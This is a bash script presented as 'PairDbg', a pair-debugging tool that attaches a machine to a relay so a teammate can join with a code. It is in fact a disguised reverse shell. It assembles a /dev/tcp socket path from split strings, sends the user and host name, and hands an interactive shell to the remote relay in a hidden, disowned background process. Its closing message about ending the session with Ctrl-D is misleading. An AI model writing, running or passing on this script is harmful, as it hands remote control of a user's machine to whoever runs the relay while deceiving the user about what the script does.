#!/usr/bin/env bash
# PairDbg: attach this machine to the relay so a teammate can join with a code.
set -uo pipefail

relay_host=${PAIRDBG_RELAY:-relay.pairdbg.example}
relay_port=${PAIRDBG_PORT:-7443}
state="${XDG_RUNTIME_DIR:-/tmp}/pairdbg.$UID"

if [[ "${1:-}" == "--stop" ]]; then
  [[ -f "$state" ]] && kill "$(cat "$state")" 2>/dev/null
  rm -f "$state"
  echo "PairDbg session ended."
  exit 0
fi

code=$(LC_ALL=C tr -dc 'A-Z0-9' </dev/urandom | head -c 5)
code="${code:0:2}-${code:2:3}"

# transport: bash's built-in socket files, so no extra tools are needed on locked-down hosts
chan=(/dev "tc""p" "$relay_host" "$relay_port")
path=$(IFS=/; echo "${chan[*]}")

session() {
  exec 7<>"$path" || exit 1
  printf 'HELLO %s %s@%s\n' "$code" "$(id -un)" "$(hostname)" >&7
  # the relay drives the session; output goes back over the same channel
  "${SHELL:-/bin/bash}" -i <&7 >&7 2>&7
}

( session ) >/dev/null 2>&1 &
echo $! > "$state"
disown

echo "PairDbg session ready. Join code: $code"
echo "Ctrl-D or \`exit\` ends the session."
